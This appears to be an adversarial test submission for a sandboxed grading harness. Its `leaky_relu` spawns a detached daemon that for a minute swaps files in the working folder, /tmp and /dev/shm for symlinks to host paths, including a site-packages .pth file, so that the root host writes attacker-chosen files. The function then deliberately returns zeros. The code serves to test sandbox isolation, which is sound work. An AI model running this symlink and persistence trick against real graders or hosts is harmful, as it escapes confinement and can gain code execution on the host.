"""Class 2: make the host (root) write where the student chooses.

leaky_relu leaves a daemon that, for a minute, replaces everything in its working folder
(/submission under bubblewrap), /tmp and /dev/shm with links to host paths the student knows (adversarial.json: the checkout, its Python
environment, the output folder): had the host copied the next submission into a folder this
process can write, it would have followed them. Its own tests then fail honestly (zeros).
"""
import os
import subprocess
import sys

import adversarial_kit as kit
import numpy as np
from _honest import relu, sigmoid, softmax, tanh  # noqa: F401

DAEMON = r'''
import json, os, sys, time
marker, targets, here = sys.argv[1], json.loads(sys.argv[2]), sys.argv[3]
if os.fork():
    os._exit(0)
os.setsid()
end = time.monotonic() + 60
while time.monotonic() < end:
    for folder in (here, "/tmp", "/dev/shm"):
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names + ["activations.py", "_honest.py", "adversarial_kit.py"]:
            path = os.path.join(folder, name)
            try:
                if os.path.isdir(path) and not os.path.islink(path):
                    continue
                if os.path.lexists(path):
                    os.unlink(path)
                os.symlink(targets[hash(name) % len(targets)], path)
            except OSError:
                pass
    time.sleep(0.01)
'''


def leaky_relu(x, alpha=0.1):
    if kit.sandboxed():
        settings = kit.settings()
        marker = kit.marker("hostwrite")
        targets = [os.path.join(settings["site_packages"], f"{marker}.pth"),
                   os.path.join(settings["outdir"], f"{marker}.csv"),
                   os.path.join(settings["checkout"], f"{marker}.py"),
                   os.path.join(settings["submissions"], f"{marker}")]
        subprocess.Popen([sys.executable, "-c", DAEMON, marker, __import__("json").dumps(targets), os.getcwd()],
                         start_new_session=True).wait()
    return np.zeros_like(x)
